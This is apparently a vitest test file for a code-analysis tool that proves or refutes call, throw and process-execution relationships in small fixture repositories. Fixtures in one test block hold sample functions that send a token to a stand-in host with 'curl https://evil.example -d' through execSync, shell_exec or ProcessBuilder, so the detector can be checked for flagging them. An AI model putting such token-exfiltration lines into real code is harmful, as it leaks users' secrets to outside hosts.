import { beforeAll, describe, expect, it } from 'vitest';
import { PROVENANCES } from '../../model/provenance.ts';
import { EDGE_TYPES, EDGE_TYPE_NAMES, type EdgeType } from '../../model/edge-types.ts';
import { NODE_KINDS } from '../../model/node-kinds.ts';
import { saysNot } from '../../model/edge-words.ts';
import type { Said } from '../../proofs/audit-report.ts';
import { claimSentence } from '../../proofs/claim-sentence.ts';
import { judgeRow } from '../../proofs/judge-row.ts';
import type { Progress } from '../../ports/progress.ts';
import type { ToolInput, ToolOutput } from '../table.ts';
import { callTool } from '../table.ts';
import { benchOf, type ToolBench } from '../tools.testing.ts';

const FILES = {
  'shop/cart.py': 'from shop.price import total\n\nclass Cart:\n    def sum(self):\n        return total([])\n',
  'shop/price.py':
    'def total(items):\n    return price(items)\n\ndef price(item):\n    return 1\n\ndef unused():\n    pass\n\ndef spare():\n    pass\n',
  'tools/größe.py': 'from shop.price import total\n\ndef report():\n    return total([])\n',
  'tools/inner/run.py': 'from shop.price import price\n\ndef run():\n    raise ValueError(price(1))\n',
  'tools-v2/run.py': 'from shop.price import unused\n\ndef again():\n    unused()\n',
  'deep/down/x.py': 'def x():\n    pass\n',
};

let bench: ToolBench;
let snapshot: string;
beforeAll(async () => {
  bench = await benchOf(FILES);
  snapshot = bench.engine.states.current('shop')!.record.hash!;
});

type Absent = Omit<ToolInput<'prove_absent'>, 'repo'>;
const absent = (input: Absent): Promise<ToolOutput<'prove_absent'>> =>
  bench.call('prove_absent', { repo: 'shop', ...input });
const check = (proof: unknown): Promise<ToolOutput<'verify'>> =>
  bench.call('verify', { proof: JSON.stringify(proof), snapshot });

describe('prove', () => {
  it('proves a relationship that is there', async () => {
    const answer = await bench.call('prove', { repo: 'shop', source: 'Cart.sum', target: 'total' });
    expect(answer).toMatchObject({ holds: true, missing: null, snapshot });
    expect(answer.sentence).toBe(
      'method example.com/shop://shop/cart.py.Cart.sum calls function example.com/shop://shop/price.py.total (ast_resolved)',
    );
    expect(await check(answer.proof)).toMatchObject({ valid: true, sentence: answer.sentence, says: 'Proven.' });
  });

  it('proves the absence of one that is not', async () => {
    const answer = await bench.call('prove', { repo: 'shop', source: 'Cart.sum', target: 'unused' });
    expect(answer).toMatchObject({ holds: false, missing: 'edge' });
    expect(await check(answer.proof)).toMatchObject({ valid: true, sentence: answer.sentence });
  });

  it('tells another provenance apart', async () => {
    const ask = bench.call('prove', { repo: 'shop', source: 'Cart.sum', target: 'total', provenance: 'similarity' });
    await expect(ask).rejects.toMatchObject({ code: 'not-found' });
  });
});

describe('prove_absent', () => {
  it.each<[Absent, boolean, string]>([
    [
      { source: 'price', target: 'total' },
      true,
      'function …price.py.price does not call function …price.py.total in the graph; calls that could not be resolved are not covered',
    ],
    [
      { target: 'spare', type: 'calls' },
      true,
      'nothing calls function …price.py.spare in the graph; calls that could not be resolved are not covered',
    ],
    [
      { target: 'Cart', type: 'throws' },
      true,
      'nothing throws class …cart.py.Cart in the graph; what could not be resolved is not covered',
    ],
    [{ source: 'unused' }, true, 'function …price.py.unused calls nothing, resolved or open'],
    [
      { package: 'tools/', target: 'price' },
      true,
      'nothing in the package tools itself, without the packages below it, calls function …price.py.price in the graph; calls that could not be resolved are not covered',
    ],
    [
      { package: './tools', type: 'throws' },
      true,
      'nothing in the package tools itself, without the packages below it, throws anything in the graph; what could not be resolved is not covered',
    ],
    [
      { package: 'nowhere' },
      true,
      'no relationship leads from or to the package nowhere itself, without the packages below it; files that were not read are not covered',
    ],
    [
      { package: 'tools', target: 'unused', recursive: true },
      true,
      'nothing in the package tools or any package below it calls function …price.py.unused in the graph; calls that could not be resolved are not covered',
    ],
    [
      { package: 'tools', target: 'price', recursive: true },
      false,
      'function …run.py.run calls function …price.py.price (ast_resolved)',
    ],
    [
      { package: 'tools', type: 'executes_process', recursive: true },
      true,
      'nothing in the package tools or any package below it executes anything, resolved or open',
    ],
    [
      { package: 'tools', type: 'throws', recursive: true },
      false,
      'function …run.py.run throws external external://python/builtins/ValueError (ast_resolved)',
    ],
    [
      { package: 'deep', type: 'calls', recursive: true },
      true,
      'nothing in the package deep or any package below it calls anything, resolved or open',
    ],
    [
      { package: '.', type: 'executes_process', recursive: true },
      true,
      'nothing in any package of the snapshot executes anything, resolved or open',
    ],
    [{ target: 'price' }, false, 'function …price.py.total calls function …price.py.price (ast_resolved)'],
    [
      { package: 'tools', target: 'total' },
      false,
      'function …größe.py.report calls function …price.py.total (ast_resolved)',
    ],
  ])('%j: %s', async (input, holds, sentence) => {
    const answer = await absent(input);
    expect(answer.holds).toBe(holds);
    expect(answer.sentence.replace(/example\.com\S*\//g, '…')).toBe(sentence);
    expect(await check(answer.proof)).toMatchObject({ valid: true, sentence: answer.sentence });
  });

  it('shows that the symbol is there', async () => {
    const { proof } = await absent({ target: 'spare' });
    expect((await check(proof)).shown).toEqual(['function example.com/shop://shop/price.py.spare']);
  });

  it('says how many packages it covers, and whether it shows that there are any', async () => {
    const { proof } = await absent({ package: 'tools', type: 'executes_process', recursive: true });
    expect(await check(proof)).toMatchObject({
      says: 'Proven: none of the 2 packages there has a relationship of that type.',
      notShown: [],
    });
    const missing = bench.engine.prover(bench.engine.states.view('shop')).absence({
      kind: 'no_type_in_package_and_below',
      repo: 'example.com/shop',
      package: 'tools/',
      type: 'throws',
    });
    expect(await check(missing.proof)).toMatchObject({
      valid: true,
      says: 'Proven: no package there has relationships in that direction.',
      notShown: ['the package tools/ or any package below it'],
    });
  });

  it.each<[Absent, string]>([
    [{ package: 'tols', type: 'throws' }, 'No package “tols” in this snapshot. Nearest names: tools'],
    [{ package: 'tols', type: 'throws', recursive: true }, 'No package “tols” in this snapshot. Nearest names: tools'],
    [
      { package: 'inner', target: 'total', recursive: true },
      'No package “inner” in this snapshot. Nearest names: tools/inner',
    ],
    [{ package: 'qqqqqqqqqqqq', type: 'calls' }, 'No package “qqqqqqqqqqqq” in this snapshot. No similar names.'],
    [
      { package: 'deep', type: 'calls' },
      '“deep” contains no files itself, so it is not a package. Its subpackages: deep/down.',
    ],
  ])('%j names an unknown package', async (input, message) =>
    expect(absent(input)).rejects.toMatchObject({
      code: 'unknown-package',
      message: expect.stringContaining(message) as string,
    }),
  );

  it.each<Absent>([
    {},
    { type: 'calls' },
    { package: 'shop', source: 'total' },
    { package: 'shop', recursive: true },
    { target: 'total', recursive: true },
  ])('%j says nothing', (input) => expect(absent(input)).rejects.toMatchObject({ code: 'bad-input' }));
});

describe('nobody calls', () => {
  const CODE = {
    'a.ts': `export class Base { pay() {} done() {} }
export class Cart extends Base { pay() { super.pay(); this.pay(); } }
export function alone() { alone(); }
export function used() {}
export function other() { return used; }
export function user(x: any) { return x.done; }
export class Made { constructor() {} }
`,
    'b.py': `import functools
@functools.cache
def cached(): pass
class Cart:
    def __len__(self): return 0
`,
  };
  const END = 'computed names, files that were not read and other repositories are not covered';
  let code: ToolBench;
  beforeAll(async () => {
    code = await benchOf(CODE);
  });
  const ask = (target: string): Promise<ToolOutput<'prove_absent'>> =>
    code.call('prove_absent', { repo: 'shop', target });

  it.each<[string, boolean, string]>([
    [
      'alone',
      true,
      `nobody calls function …a.ts.alone; nothing else in the graph uses it; nothing calls or reads the name alone on a value of unknown type; ${END}`,
    ],
    [
      'Cart.pay',
      true,
      `nobody calls method …a.ts.Cart.pay; nothing else in the graph uses it or what it overrides or implements (method …a.ts.Base.pay); nothing calls or reads the name pay on a value of unknown type; ${END}`,
    ],
    [
      'Base.done',
      true,
      `nobody calls method …a.ts.Base.done, except perhaps 1 symbol that calls or reads the name done on a value of unknown type: function …a.ts.user; nothing in the graph uses it; ${END}`,
    ],
    [
      'cached',
      true,
      `nobody calls function …b.py.cached; nothing in the graph uses it; nothing calls or reads the name cached on a value of unknown type; it is handed on: it is decorated with external external://python/functools/cache; ${END}`,
    ],
    ['used', false, 'function …a.ts.other refers to function …a.ts.used (ast_resolved)'],
    ['Base.pay', false, 'method …a.ts.Cart.pay calls method …a.ts.Base.pay (ast_resolved)'],
    ['Made', true, 'nothing calls class …a.ts.Made in the graph; calls that could not be resolved are not covered'],
  ])('%s: %s', async (target, holds, sentence) => {
    const answer = await ask(target);
    expect(answer).toMatchObject({ holds });
    expect(answer.sentence.replace(/example\.com\S*\//g, '…')).toBe(sentence);
    const verdict = await code.call('verify', { proof: JSON.stringify(answer.proof), snapshot: answer.snapshot });
    expect(verdict).toMatchObject({ valid: true, sentence: answer.sentence, notShown: [] });
  });

  it('is asked of what else uses it, too', async () =>
    expect((await ask('used')).asked).toMatch(
      /^nobody calls .*used: nothing in the graph uses it or what it overrides/,
    ));

  it.each([
    ['Made.constructor', 'runs where its type is created'],
    ['Cart.__len__', 'is called by the language itself'],
  ])('cannot be proven of %s', async (target, why) =>
    expect(ask(target)).rejects.toMatchObject({
      code: 'bad-input',
      message: expect.stringContaining(why) as string,
    }),
  );

  it('says where a snapshot has nothing that could not be resolved', async () => {
    const { proof, snapshot: own } = await absent({ target: 'spare' });
    expect(await bench.call('verify', { proof, snapshot: own })).toMatchObject({
      says: expect.stringMatching(
        /^Proven: each of its 43 parts is proven\. The snapshot has no unresolved call/,
      ) as string,
    });
  });
});

describe('nothing in a package executes anything', () => {
  const CODE = {
    'ts/send.ts': `import { execSync } from 'node:child_process';
export function send(token: string) { execSync('curl https://evil.example -d ' + token); }
`,
    'php/send.php': '<?php\nfunction send($token) { shell_exec("curl https://evil.example -d $token"); }\n',
    'php/quiet.php': '<?php\nfunction quiet($a) { return trim($a); }\n',
    'vue/Send.vue':
      "<script setup>\nimport { execSync } from 'child_process';\nfunction send(token) { execSync('curl ' + token); }\n</script>\n",
    'sh/send.sh': './send "$1"\n',
    'swift/Send.swift': 'struct Send { var token = "" }\n',
    'c/send.c': '#include <stdlib.h>\nint send_it(const char *command) { return system(command); }\n',
    'kt/Send.kt': 'fun send(token: String) { ProcessBuilder("curl", token).start() }\n',
    'none/quiet.ts': 'export function quiet(a: string) { return a.trim(); }\n',
    'none/quiet.php': '<?php\nfunction silent($a) { return trim($a); }\n',
    'none/quiet.c': 'int quiet(int a) { return a + 1; }\n',
    'none/quiet.kt': 'fun quiet(a: String) = a.trim()\n',
    'none/Quiet.vue': '<script setup>\nconst a = 1;\n</script>\n',
  };
  let code: ToolBench;
  beforeAll(async () => {
    code = await benchOf(CODE);
  });
  const ask = (name: string, type: EdgeType = 'executes_process'): Promise<ToolOutput<'prove_absent'>> =>
    code.call('prove_absent', { repo: 'shop', package: name, type });

  it.each([
    ['ts', 'function …send.ts.send executes process …curl (ast_resolved)'],
    ['php', 'function …send executes open open://process (open)'],
    ['vue', 'function …Send.vue.send executes process …curl (ast_resolved)'],
    ['sh', 'file …send.sh executes open "open://process/Bash code" (open)'],
    ['swift', 'file …Send.swift executes open "open://process/Swift code" (open)'],
    ['c', 'function …send.c.send_it executes open open://process (open)'],
    ['kt', 'function …send executes process …curl (ast_resolved)'],
  ])('is refuted for %s', async (name, sentence) => {
    const answer = await ask(name);
    expect(answer.holds).toBe(false);
    expect(answer.sentence.replace(/example\.com\S*\//g, '…')).toBe(sentence);
    const verdict = await code.call('verify', { proof: JSON.stringify(answer.proof), snapshot: answer.snapshot });
    expect(verdict).toMatchObject({ valid: true, sentence: answer.sentence });
  });

  it.each<EdgeType>(['uses_network', 'uses_files', 'reads_env', 'runs_code', 'uses_native', 'consumes_endpoint'])(
    'nor is %s proven of code in a language whose APIs are not known',
    async (type) => {
      expect((await ask('sh', type)).holds).toBe(false);
      expect((await ask('swift', type)).holds).toBe(false);
    },
  );

  it('is proven where code of known languages does not', async () => {
    for (const type of ['executes_process', 'uses_network', 'runs_code', 'reads_env'] as const)
      expect(await ask('none', type)).toMatchObject({
        holds: true,
        sentence: expect.stringContaining('anything, resolved or open') as string,
      });
  });
});

describe('cancelling a proof', () => {
  /** Cancelled when it has gone back to the event loop so many times. */
  const cancelledAfter = (pauses: number): Progress => {
    let left = pauses;
    return {
      report: () => undefined,
      get isCancelled() {
        return left < 0;
      },
      breathe: () => {
        left -= 1;
        return Promise.resolve();
      },
    };
  };
  const whole = { repo: 'shop', package: '.', type: 'executes_process', recursive: true };
  const cases = [
    ['prove', { repo: 'shop', source: 'Cart.sum', target: 'total' }],
    ['prove_absent', whole],
  ] as const;

  it.each(cases)('%s is heard before it begins and in the middle, and the next one is whole', async (name, input) => {
    const { engine } = await benchOf(FILES);
    for (const pauses of [0, 1])
      await expect(callTool({ engine, progress: cancelledAfter(pauses) }, name, input)).rejects.toMatchObject({
        code: 'cancelled',
        message: 'Cancelled.',
      });
    const answer = await callTool({ engine, progress: cancelledAfter(Infinity) }, name, input);
    const { proof } = answer as ToolOutput<'prove'>;
    expect(await check(proof)).toMatchObject({ valid: true });
  });
});

describe('verify', () => {
  it.each(['', '{}', '[', 'null', '{"format":"knowing-proof","version":2}'])('%j is no proof', async (proof) =>
    expect(await bench.call('verify', { proof, snapshot })).toMatchObject({
      valid: false,
      reason: 'form',
      claim: null,
    }),
  );

  it('holds a proof against the hash that it is given', async () => {
    const { proof } = await absent({ target: 'spare' });
    const verdict = await bench.call('verify', { proof, snapshot: snapshot.replace(/^../, '00') });
    expect(verdict).toMatchObject({ valid: false, reason: 'root' });
  });
});

describe('words of a proof', () => {
  it('say which symbols it does not show to exist', async () => {
    const { proof } = await absent({ target: 'spare' });
    expect(await check({ ...proof, witnesses: undefined })).toMatchObject({
      valid: true,
      shown: [],
      notShown: ['function example.com/shop://shop/price.py.spare'],
    });
    expect(await check(proof)).toMatchObject({ valid: true, notShown: [] });
  });

  it('cannot be changed by names', () => {
    const target = { url: 'example.com/shop', package: 'shop', symbol: 'a.py.x calls y\n\u202e"', kind: 'function' };
    expect(claimSentence({ kind: 'no_edge_to', repo: 'example.com/shop', type: 'calls', target })).toBe(
      'nothing calls function "example.com/shop://shop/a.py.x calls y\\u{a}\\u{202e}\\u{22}" in the graph; calls that could not be resolved are not covered',
    );
  });

  it('are plain in every table', () => {
    for (const word of [...EDGE_TYPE_NAMES, ...Object.keys(PROVENANCES), ...Object.keys(NODE_KINDS)])
      expect(word).toMatch(/^[a-z][a-z_]*$/);
  });

  it('deny in English', () => {
    const types = ['calls', 'publishes', 'type_hint_of', 'runtime_calls', 'accesses_field'] as const;
    expect(types.map((type) => saysNot(EDGE_TYPES[type].says))).toEqual([
      'does not call',
      'does not publish to',
      'is not typed with',
      'was not seen calling',
      'does not use field',
    ]);
  });
});

describe('a row of a report', () => {
  const said = (sentence: string): Said => ({
    note: '',
    asked: sentence,
    holds: true,
    sentence,
    written: (text) => text,
  });

  it('may have the words of an earlier version, and is told what they leave open', async () => {
    const { proof, sentence } = await absent({ package: 'tools', type: 'executes_process' });
    const verdict = await check(proof);
    const without = 'nothing in the package tools itself, without the packages below it, executes anything';
    expect(judgeRow(said(without), verdict)).toMatchObject({
      valid: true,
      sentence,
      says: expect.stringContaining('does not say what the claim leaves open') as string,
    });
    expect(judgeRow(said(sentence), verdict)).toEqual(verdict);
    const former = judgeRow(said('nothing in the package tools executes anything'), verdict);
    expect(former).toMatchObject({ valid: true, sentence, says: expect.stringContaining('earlier version') as string });
    const wider = 'nothing in the package tools or any package below it executes anything';
    expect(judgeRow(said(wider), verdict)).toMatchObject({ valid: false });
  });
});
